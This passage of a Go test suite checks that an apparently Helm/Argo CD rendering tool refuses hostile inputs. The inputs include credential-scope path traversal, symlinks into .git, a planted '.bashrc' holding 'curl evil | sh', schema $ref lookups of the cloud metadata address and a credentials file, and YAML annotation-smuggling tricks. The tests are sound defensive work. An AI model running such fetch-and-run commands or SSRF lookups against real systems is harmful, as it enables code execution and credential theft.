			env:    []string{allow, "SSL_CERT_FILE=" + caFile, "SYNCWAVE_REPO_URL=" + status.URL + "/team", "SYNCWAVE_REPO_USERNAME=u", "SYNCWAVE_REPO_PASSWORD=TEAM-A-SECRET"},
			stderr: []string{"403 Forbidden", "requires credentials and none are configured"}, notStderr: []string{"TEAM-A-SECRET"}},
		{name: "credentials scoped to /team, path %2e%2e", repository: status.URL + "/team/%2e%2e/team-b",
			env:    []string{allow, "SSL_CERT_FILE=" + caFile, "SYNCWAVE_REPO_URL=" + status.URL + "/team", "SYNCWAVE_REPO_USERNAME=u", "SYNCWAVE_REPO_PASSWORD=TEAM-A-SECRET"},
			stderr: []string{"403 Forbidden", "requires credentials and none are configured"}, notStderr: []string{"TEAM-A-SECRET"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			silentHits.Store(0)
			authSeen.Store(0)
			repo := t.TempDir()
			version := tc.version
			if version == "" {
				version = "1.x"
			}
			writeTree(t, repo, map[string]string{
				"Chart.yaml":       fmt.Sprintf("apiVersion: v2\nname: shop\nversion: 1.0.0\ndependencies:\n- {name: dep, version: %q, repository: %q}\n", version, tc.repository),
				"templates/t.yaml": cm("x"),
			}, strings.NewReplacer())
			env := append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + repo, "SYNCWAVE_MAX_MEMORY=" + hostileBudget, "SYNCWAVE_TIMEOUT=20s",
				"ARGOCD_APP_NAME=app", "ARGOCD_APP_NAMESPACE=ns", "ARGOCD_APP_SOURCE_PATH=.",
				"SYNCWAVE_REPOSITORY_CONFIG=" + reposYAML, "SYNCWAVE_REGISTRY_CA_FILE=" + caFile}, tc.env...)
			r := runBounded(t, bin, repo, env, hostileKill, "generate")
			stdout, stderr, took, rss := r.stdout, r.stderr, r.took, r.rss
			if r.code != 1 || stdout.Len() > 0 {
				t.Errorf("exit %d, %d bytes on stdout; stderr:\n%.2000s", r.code, stdout.Len(), stderr.String())
			}
			t.Logf("in %s, peak RSS %d MiB", took.Round(time.Millisecond), rss>>20)
			if rss > 256<<20 {
				t.Errorf("peak RSS %d MiB, over the budget of %s", rss>>20, hostileBudget)
			}
			if tc.maxTook > 0 && took > tc.maxTook {
				t.Errorf("took %s, want at most %s", took.Round(time.Millisecond), tc.maxTook)
			}
			for _, want := range tc.stderr {
				if !strings.Contains(stderr.String(), want) {
					t.Errorf("stderr does not contain %q:\n%.2000s", want, stderr.String())
				}
			}
			for _, not := range tc.notStderr {
				if strings.Contains(stderr.String(), not) {
					t.Errorf("stderr contains %q:\n%.2000s", not, stderr.String())
				}
			}
			if authSeen.Load() != 0 {
				t.Errorf("credentials were sent %d times outside their scope", authSeen.Load())
			}
			if tc.maxTook == 0 && silentHits.Load() != 0 {
				t.Errorf("%d requests reached the silent server", silentHits.Load())
			}
		})
	}
}

// TestHostileGitDir (issue 18, class 8): nothing under .git is input, by
// path or through a symlink, and a path outside the root gives one message
// whether or not it exists.
func TestHostileGitDir(t *testing.T) {
	const token = "TOKEN-ghp-never-printed"
	gitConfig := "[http]\n\textraheader = AUTHORIZATION: basic " + token + "\n"
	leak := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  t: " + token + "\n"
	chart := map[string]string{
		"app/Chart.yaml":       chartYAML,
		"app/templates/t.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  c: {{ .Files.Get \"files/c\" | quote }}\n",
	}
	with := func(base map[string]string, kv ...string) map[string]string {
		m := map[string]string{".git/config": gitConfig, ".git/leak.yaml": leak, ".git/values.yaml": "x: " + token + "\n"}
		for k, v := range base {
			m[k] = v
		}
		for i := 0; i+1 < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return m
	}
	for _, tc := range []struct {
		name   string
		files  map[string]string
		args   []string // run in repo/app
		code   int
		stderr string
	}{
		{"chart file symlink to .git/config", with(chart, "app/files/c", symlink+"../../.git/config"), []string{"plan", "."}, 1, "files/c: symlink points in .git, which is never read"},
		{"chart file symlink to .git through an absolute path", with(chart, "app/files/c", symlink+"{{REPO}}/.git/config"), []string{"render", "."}, 1, "files/c: symlink points in .git, which is never read"},
		{"manifest symlink to .git/leak.yaml", with(nil, "app/a.yaml", symlink+"../.git/leak.yaml"), []string{"render", "."}, 1, "a.yaml: symlink points in .git, which is never read"},
		{"value file under .git", with(chart, "app/files/c", "x"), []string{"render", "-f", "/.git/values.yaml", "."}, 1, ".git"},
		{"ordering file under .git", with(nil, "app/a.yaml", cm("a")), []string{"render", "--order", "../.git/config", "."}, 1, "ordering file ../.git/config is in .git, which is never read\n"},
		{"directory source with recurse at the root", with(nil, "app/a.yaml", cm("a"), "syncwave.yaml", "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\nsources:\n  - directory: {path: ., recurse: true}\n"), []string{"render", "--repo-root", "..", ".."}, 0, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			repo := filepath.Join(t.TempDir(), "repo")
			writeTree(t, repo, tc.files, strings.NewReplacer("{{REPO}}", repo))
			out, errOut, code := run(t, filepath.Join(repo, "app"), tc.args...)
			if code != tc.code || !strings.Contains(errOut, tc.stderr) || (code != 0 && out != "") {
				t.Errorf("exit %d (want %d), stdout %q, stderr %q (want %q)", code, tc.code, out, errOut, tc.stderr)
			}
			if strings.Contains(out+errOut, token) || strings.Contains(out, "name: leak") {
				t.Errorf("a file under .git was read:\n%s\n%s", out, errOut)
			}
		})
	}

	// no existence oracle: an outside path that exists and one that does
	// not give the same message, through a symlinked manifest and through
	// the order-file parameter
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "exists.yaml"), []byte(cm("o")), 0o644); err != nil {
		t.Fatal(err)
	}
	messages := func(files map[string]string, args ...string) []string {
		var got []string
		for _, name := range []string{"exists.yaml", "missing.yaml"} {
			repo := filepath.Join(t.TempDir(), "repo")
			writeTree(t, repo, files, strings.NewReplacer("{{OUT}}", filepath.Join(outside, name)))
			a := strings.NewReplacer("{{OUT}}", filepath.Join(outside, name)).Replace(strings.Join(args, "\x00"))
			out, errOut, code := run(t, filepath.Join(repo, "app"), strings.Split(a, "\x00")...)
			if code != 1 || out != "" {
				t.Errorf("%s: exit %d, stdout %q", name, code, out)
			}
			got = append(got, strings.ReplaceAll(errOut, name, "NAME"))
		}
		return got
	}
	for name, m := range map[string][]string{
		"symlinked manifest": messages(map[string]string{".git/HEAD": "x", "app/a.yaml": symlink + "{{OUT}}"}, "render", "."),
		"--order":            messages(map[string]string{".git/HEAD": "x", "app/a.yaml": cm("a")}, "render", "--order", "{{OUT}}", "."),
	} {
		if m[0] != m[1] || !strings.Contains(m[0], "outside the repository root") {
			t.Errorf("%s: an existing and a missing file outside give different messages:\n%s\n%s", name, m[0], m[1])
		}
	}
}

// TestHostilePlanDiffTree (issue 18, class 2): a pull request's commit
// whose tree holds "x" both as a symlink to the reviewer's home and as a
// directory: plan --diff refuses it and writes nothing there.
func TestHostilePlanDiffTree(t *testing.T) {
	repo := gitRepo(t, nil)
	home := t.TempDir()
	app := gitOut(t, repo, nil, "rev-parse", "HEAD:app")
	bashrc := gitOut(t, repo, []byte("curl evil | sh\n"), "hash-object", "-w", "--stdin")
	link := gitOut(t, repo, []byte(home), "hash-object", "-w", "--stdin")
	dir := gitOut(t, repo, []byte("100644 blob "+bashrc+"\t.bashrc\n"), "mktree")
	commit := commitTree(t, repo, rawTree(t, repo, [3]string{"40000", "app", app}, [3]string{"120000", "x", link}, [3]string{"40000", "x", dir}))
	out, errOut, code := run(t, repo, "plan", "--diff", commit, "app")
	if code != 1 || out != "" || !strings.Contains(errOut, `entry "x" is both a symlink and a directory`) {
		t.Errorf("exit %d, stdout %q, stderr %q", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err == nil {
		t.Error("plan --diff wrote outside its temporary directory")
	}
}

// TestHostileLockAliases (issue 18, class 5): a Chart.lock listing one
// chart twice, for two aliases at different versions, as helm dependency
// update writes it. init downloads both versions, each once, and render
// gives both aliases' objects (5), where the lock read by name gave 3.
func TestHostileLockAliases(t *testing.T) {
	files := map[string][]byte{}
	var index strings.Builder
	index.WriteString("apiVersion: v1\nentries:\n  sub:\n")
	for _, v := range []string{"1.1.0", "1.2.0"} {
		p, err := chartutil.Save(&chart.Chart{
			Metadata: &chart.Metadata{APIVersion: "v2", Name: "sub", Version: v},
			Templates: []*chart.File{{Name: "templates/o.yaml", Data: []byte("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Chart.Name }}-cm\ndata:\n  v: {{ .Chart.Version | quote }}\n" +
				"---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: {{ .Chart.Name }}-s\n")}},
		}, t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(b)
		files["/"+filepath.Base(p)] = b
		fmt.Fprintf(&index, "  - name: sub\n    version: %s\n    urls: [%s]\n    digest: %s\n", v, filepath.Base(p), hex.EncodeToString(sum[:]))
	}
	files["/index.yaml"] = []byte(index.String())
	var archives atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if strings.HasSuffix(r.URL.Path, ".tgz") {
			archives.Add(1)
		}
		w.Write(b)
	}))
	defer srv.Close()
	deps := []*chart.Dependency{{Name: "sub", Alias: "old", Version: "1.1.0", Repository: srv.URL}, {Name: "sub", Alias: "new", Version: "1.2.0", Repository: srv.URL}}
	lock := []*chart.Dependency{{Name: "sub", Version: "1.1.0", Repository: srv.URL}, {Name: "sub", Version: "1.2.0", Repository: srv.URL}}
	data, err := json.Marshal([2][]*chart.Dependency{deps, lock})
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	app := filepath.Join(t.TempDir(), "app")
	writeFile(t, filepath.Join(app, "Chart.yaml"), fmt.Sprintf("apiVersion: v2\nname: app\nversion: 1.0.0\ndependencies:\n  - {name: sub, alias: old, version: 1.1.0, repository: %[1]s}\n  - {name: sub, alias: new, version: 1.2.0, repository: %[1]s}\n", srv.URL))
	writeFile(t, filepath.Join(app, "Chart.lock"), fmt.Sprintf("dependencies:\n- name: sub\n  repository: %[1]s\n  version: 1.1.0\n- name: sub\n  repository: %[1]s\n  version: 1.2.0\ndigest: sha256:%[2]s\ngenerated: \"2024-01-01T00:00:00Z\"\n", srv.URL, hex.EncodeToString(sum[:])))
	writeFile(t, filepath.Join(app, "templates", "cm.yaml"), cm("parent"))
	if out, errOut, code := run(t, app, "init", "."); code != 0 || strings.Count(out+errOut, "sub 1.1.0") != 1 || strings.Count(out+errOut, "sub 1.2.0") != 1 {
		t.Fatalf("init: exit %d, stdout %q, stderr %q", code, out, errOut)
	}
	if archives.Load() != 2 {
		t.Errorf("%d archive downloads, want 2 (one per lock entry)", archives.Load())
	}
	out, errOut, code := run(t, app, "render", ".")
	if code != 0 || strings.Count(out, "\nkind: ") != 5 || !strings.Contains(out, "name: old-cm") || !strings.Contains(out, "name: new-cm") {
		t.Errorf("render: exit %d, stderr %q, %d objects:\n%s", code, errOut, strings.Count(out, "\nkind: "), out)
	}
}

// TestHostileWriter: documents that made the annotation writer print
// something other than what plan reports (issue 18, class 4). Whatever
// the input's shape, Argo CD's reading of the rendered output
// (sigs.k8s.io/yaml) gives every resource the wave plan -o json reports,
// which is the wave the ordering file asks for, and lint --strict passes
// on the same repository.
func TestHostileWriter(t *testing.T) {
	order := "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\ngroups:\n- {name: a, select: [{name: second}], wave: 5}\n- {name: b, select: [{name: first}], after: [a]}\n"
	second := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: second\ndata:\n  a: b\n"
	for name, first := range map[string]string{
		"single-quoted value over two lines": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n  annotations:\n    argocd.argoproj.io/sync-wave: '1\n    argocd.argoproj.io/sync-wave: \"-100\" #'\ndata:\n  a: b\n",
		"flow annotations over two lines":    "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n  annotations: {team: a,\n  argocd.argoproj.io/sync-wave: \"-100\"}\ndata:\n  a: b\n",
		"double-quoted value over two lines": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n  annotations:\n    argocd.argoproj.io/sync-wave: \"1\n    argocd.argoproj.io/sync-wave: -100\"\n",
		"block scalar and a comment":         "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n  annotations:\n    argocd.argoproj.io/sync-wave: |\n      -100\n# argocd.argoproj.io/sync-wave: \"-100\"\n    x: \"1\"\n",
		"tagged annotations map":             "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n  annotations: !!map\n    argocd.argoproj.io/sync-wave: !!str -100\n",
		"CRLF line breaks":                   "apiVersion: v1\r\nkind: ConfigMap\r\nmetadata:\r\n  name: first\r\n  annotations:\r\n    argocd.argoproj.io/sync-wave: '1\r\n    argocd.argoproj.io/sync-wave: \"-100\" #'\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{"a.yaml": first, "b.yaml": second, "syncwave.yaml": order}, strings.NewReplacer())
			out, errOut, code := run(t, dir, "render", "--repo-root", ".", ".")
			if code != 0 {
				t.Fatalf("render: exit %d: %s", code, errOut)
			}
			waves := map[string]string{}
			for _, doc := range strings.Split(out, "\n---\n") {
				var obj struct {
					Metadata struct {
						Name        string            `json:"name"`
						Annotations map[string]string `json:"annotations"`
					} `json:"metadata"`
				}
				if err := sigsyaml.Unmarshal([]byte(doc), &obj); err != nil {
					t.Fatalf("Argo CD cannot read a rendered document: %v\n%s", err, doc)
				}
				waves[obj.Metadata.Name] = obj.Metadata.Annotations["argocd.argoproj.io/sync-wave"]
			}
			if want := map[string]string{"first": "6", "second": "5"}; !maps.Equal(waves, want) {
				t.Errorf("Argo CD reads the waves %v from the output, want %v:\n%s", waves, want, out)
			}
			pout, perr, code := run(t, dir, "plan", "--repo-root", ".", "-o", "json", ".")
			if code != 0 {
				t.Fatalf("plan: exit %d: %s", code, perr)
			}
			var p struct {
				Steps []struct {
					Name string `json:"name"`
					Wave int    `json:"wave"`
				} `json:"steps"`
			}
			if err := json.Unmarshal([]byte(pout), &p); err != nil {
				t.Fatal(err)
			}
			for _, s := range p.Steps {
				if got := strconv.Itoa(s.Wave); got != waves[s.Name] {
					t.Errorf("plan reports %s at wave %s, the output has %q", s.Name, got, waves[s.Name])
				}
			}
			if len(p.Steps) != 2 {
				t.Errorf("plan has %d steps, want 2", len(p.Steps))
			}
			if lout, lerr, code := run(t, dir, "lint", "--strict", "--repo-root", ".", "."); code != 0 {
				t.Errorf("lint --strict: exit %d: %s\n%s", code, lerr, lout)
			}
		})
	}
}

// TestHostileSecrets: the built binary, as the sidecar runs it, never
// prints a credential of its environment (issue 18, class 6), whether a
// library's message, a misplaced variable or a URL would carry it.
func TestHostileSecrets(t *testing.T) {
	t.Parallel()

	bin := syncwaveBinary(t)
	const secret = "Hostile-s3cret-value"
	for _, tc := range []struct {
		name, tpl, args string
		env             []string
		stderr          string
	}{
		{name: "a chart's fail quotes the password", tpl: "{{ fail \"" + secret + "\" }}", args: "generate",
			env: []string{"SYNCWAVE_REPO_URL=https://h/charts", "SYNCWAVE_REPO_USERNAME=u", "SYNCWAVE_REPO_PASSWORD=" + secret}, stderr: "***"},
		{name: "password in SYNCWAVE_REPO_URL", tpl: cm("x"), args: "init .",
			env: []string{"SYNCWAVE_REPO_URL=" + secret, "SYNCWAVE_REPO_USERNAME=u", "SYNCWAVE_REPO_PASSWORD=https://h/charts"}, stderr: "the value is not shown"},
		{name: "token in a URL's query", tpl: cm("x"), args: "init .",
			env: []string{"SYNCWAVE_REPO_URL=https://h/charts?token=" + secret, "SYNCWAVE_REPO_USERNAME=u", "SYNCWAVE_REPO_PASSWORD=p4ssword"}, stderr: "token=***"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()

			dir := t.TempDir()
			chart := chartYAML + "dependencies:\n- {name: dep, version: 1.0.0, repository: 'https://h/charts'}\n"
			if tc.args == "generate" {
				chart = chartYAML
			}
			writeTree(t, dir, map[string]string{"Chart.yaml": chart, "templates/t.yaml": tc.tpl}, strings.NewReplacer())
			cmd := exec.Command(bin, strings.Fields(tc.args)...)
			cmd.Dir = dir
			cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "ARGOCD_APP_NAME=app", "ARGOCD_APP_SOURCE_PATH=."}, tc.env...)
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 1 {
				t.Fatalf("%v, want exit 1; stderr:\n%s", err, stderr.String())
			}
			if strings.Contains(stdout.String()+stderr.String(), secret) {
				t.Errorf("the secret is printed:\n%s", stderr.String())
			}
			if !strings.Contains(stderr.String(), tc.stderr) {
				t.Errorf("stderr does not contain %q:\n%s", tc.stderr, stderr.String())
			}
		})
	}
}

// Class 1 (a library's own client): a chart's values.schema.json whose
// $ref points at an http URL or at a file outside the repository. Helm's
// schema loader has a transport and a file loader of its own, so
// DenyNetwork does not see it; syncwave refuses the reference before Helm
// compiles the schema, with one message whether the file exists or not.
// In-process (the kernel seal is faked here): this is the readable
// first layer; sealproof_test.go proves the kernel layer on a built binary.
func TestHostileSchemaRefInProcess(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, `{"type": "object"}`)
	}))
	defer srv.Close()
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "config.json"), []byte(`{"auths": {"r": {"auth": "c2VjcmV0"}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, ref string }{
		{"http", srv.URL + "/x.json"},
		{"metadata address", "http://169.254.169.254/latest/meta-data"},
		{"file outside, existing", "file://" + outside + "/config.json"},
		{"file outside, missing", "file://" + outside + "/none.json"},
		{"relative to the schema", "../../config.json#/auths"},
	} {
		for _, args := range []string{"render .", "plan .", "lint .", "generate", "render --helm-version 3 ."} {
			t.Run(tc.name+"/"+args, func(t *testing.T) {
				repo := t.TempDir()
				writeTree(t, repo, chartOf(cm("x"), "values.schema.json", `{"type": "object", "properties": {"a": {"$ref": "`+tc.ref+`"}}}`), strings.NewReplacer())
				env := []string{"ARGOCD_APP_NAME=app", "ARGOCD_APP_SOURCE_PATH=."}
				h := host{environ: func() []string { return env }, getwd: func() (string, error) { return repo, nil }, seal: (&fakeSeal{report: bothLayers()}).seal}
				// The process itself works in the repository, as under the
				// cmp-server, so that a relative $ref resolved from the
				// working directory instead of the schema would be caught:
				// this needs t.Chdir, so these subtests stay sequential.
				t.Chdir(repo)
				out, errOut, code := runWith(t, h, strings.Fields(args)...)
				if code != 1 || out != "" {
					t.Errorf("exit %d, stdout %q", code, firstLine(out))
				}
				want := `c/values.schema.json: $ref "` + tc.ref + `" at /properties/a/$ref: refers outside the schema (syncwave renders from the repository alone`
				if !strings.Contains(errOut, want) {
					t.Errorf("stderr %q\ndoes not contain %q", errOut, want)
				}
				if strings.Contains(errOut, "auths") && !strings.Contains(tc.ref, "auths") || strings.Contains(errOut, "c2VjcmV0") {
					t.Errorf("stderr reveals the outside file: %q", errOut)
				}
			})
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the local HTTP server received %d requests", n)
	}
}

// boundedRun is what one run of a syncwave binary gave.
type boundedRun struct {
	stdout, stderr *bytes.Buffer
	code           int
	took           time.Duration
	rss            int64 // peak resident set size, bytes
}

// runBounded runs bin with args in dir with exactly env, killed after kill
// (a test failure: the command hangs).
func runBounded(t *testing.T, bin, dir string, env []string, kill time.Duration, args ...string) boundedRun {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), kill)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Dir, cmd.Env = dir, env
	r := boundedRun{stdout: &bytes.Buffer{}, stderr: &bytes.Buffer{}}
	cmd.Stdout, cmd.Stderr = r.stdout, r.stderr
	start := time.Now()
	err := cmd.Run()
	r.took = time.Since(start)
	if ctx.Err() != nil {
		t.Fatalf("killed after %s: it hangs", kill)
	}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	r.rss = int64(cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss) << 10
	return r
}
